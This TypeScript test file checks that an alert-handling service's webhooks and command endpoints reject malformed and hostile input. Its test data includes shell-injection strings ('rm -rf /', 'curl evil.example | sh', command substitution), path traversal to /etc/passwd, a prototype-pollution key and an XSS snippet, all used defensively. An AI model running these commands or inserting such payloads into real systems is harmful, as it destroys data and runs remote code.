import { expect } from 'chai';
import { alertmanagerPayload, startHarness, type Harness } from '../e2e/harness.js';
import { expectUnharmed, facts, say } from './support.js';

/**
 * Malformed and hostile input on the hooks, the console commands and the vote endpoint: a clear 4xx,
 * the server stays up, nothing half-stored, shell metacharacters are data, mentions are inert.
 */
describe('adversarial: malformed and hostile input', function () {
  this.timeout(30_000);
  let h: Harness;
  before(async () => (h = await startHarness()));
  after(async () => h.close());

  const raw = (path: string, body: string | Buffer, type = 'application/json') =>
    fetch(`${h.url}${path}`, {
      method: 'POST',
      headers: { 'content-type': type },
      body: typeof body === 'string' ? body : new Uint8Array(body),
    });
  const alive = async () => expect((await fetch(`${h.url}/healthz`)).status).to.equal(200);

  const bodies: [string, () => string | Buffer, number[]][] = [
    ['invalid JSON', () => '{"version":"4", "alerts": [', [400]],
    ['a JSON string instead of an object', () => '"hello"', [400, 422]],
    [
      'wrong types (alerts is a number)',
      () => JSON.stringify({ version: '4', status: 'firing', alerts: 7 }),
      [400, 422],
    ],
    ['deeply nested arrays (200k levels)', () => '['.repeat(200_000) + ']'.repeat(200_000), [400, 413, 422]],
    [
      'deeply nested objects inside a label',
      () => {
        const p = alertmanagerPayload('Deep', 'checkout-api') as any;
        p.alerts[0].labels.deep = '__DEEP__';
        p.alerts[0].annotations.deep = '__DEEP__';
        const nested = '{"v":'.repeat(20_000) + '"x"' + '}'.repeat(20_000);
        return JSON.stringify(p).replaceAll('"__DEEP__"', nested);
      },
      [400, 413, 422],
    ],
    ['a 10 MB body', () => Buffer.alloc(10 * 1024 * 1024, 0x20), [413]],
    ['invalid UTF-8', () => Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]), [400, 422]],
    [
      'a prototype-pollution key',
      () => '{"__proto__":{"admin":true},"version":"4","alerts":[]}',
      [202, 400, 422],
    ],
  ];
  for (const [name, body, statuses] of bodies) {
    for (const path of ['/hooks/alertmanager', '/hooks/generic']) {
      it(`${path}: ${name} → ${statuses.join('/')}, nothing stored, still alive`, async () => {
        const before = facts(h.app.config.dbPath);
        const res = await raw(path, body());
        expect(statuses, `status ${res.status}`).to.include(res.status);
        if (res.status >= 400) expect(facts(h.app.config.dbPath).inbox).to.equal(before.inbox);
        expect(({} as any).admin).to.equal(undefined);
        await alive();
        expectUnharmed(h, before, name);
      });
    }
  }

  it('/api/commands and /api/approvals/:id/votes refuse wrong types and oversize bodies', async () => {
    const before = facts(h.app.config.dbPath);
    for (const [path, body] of [
      ['/api/commands', '{"text": 42}'],
      ['/api/commands', '{"text": "' + 'x'.repeat(2 * 1024 * 1024) + '"}'],
      ['/api/approvals/A-AAAAAA/votes', '{"decision": "maybe"}'],
      ['/api/approvals/A-AAAAAA/votes', '{"decision": ["approve"]}'],
      ['/api/approvals/A-AAAAAA/votes', 'not json'],
    ] as const) {
      const res = await raw(path, body);
      expect(res.status, `${path} ${body.slice(0, 40)}`).to.be.within(400, 499);
    }
    await alive();
    expectUnharmed(h, before, 'console endpoints');
  });

  it('unicode, control characters and shell metacharacters in arguments are data, never interpreted', async () => {
    const before = facts(h.app.config.dbPath);
    const hostile = [
      'checkout-api; rm -rf / #',
      '$(touch /tmp/wk-pwned)',
      '`id`',
      'checkout-api && curl evil.example | sh',
      'checkout-api\u0000\u001b[31m',
      '\u202echeckout-api',
      'ｃｈｅｃｋｏｕｔ-api',
      '../../etc/passwd',
    ];
    for (const arg of hostile) {
      const r = await say(h, `!wk ops rollback "${arg}"`);
      expect(r.status, arg).to.be.below(500);
    }
    await h.settle();
    const { existsSync } = await import('node:fs');
    expect(existsSync('/tmp/wk-pwned')).to.equal(false);
    expectUnharmed(h, before, 'shell metacharacters');
  });

  it('mention injection (<!channel>, @everyone, @here, @room) in alert text is stored as text and never reaches a mention', async () => {
    const before = facts(h.app.config.dbPath);
    const p = alertmanagerPayload('<!channel> @everyone @here @room <@U123> wake up', 'checkout-api') as any;
    p.alerts[0].annotations.description = '<!here|here> @everyone <script>alert(1)</script>';
    expect((await h.api('POST', '/hooks/alertmanager', p)).status).to.equal(202);
    await h.settle();
    const incidents = (await h.api('GET', '/api/incidents')).body.incidents as any[];
    expect(incidents.some((i) => String(i.title).includes('@everyone'))).to.equal(true);
    await alive();
    expect(h.app.ledger.verify().ok).to.equal(true);
    expect(facts(h.app.config.dbPath).inbox).to.be.above(before.inbox);
  });
});
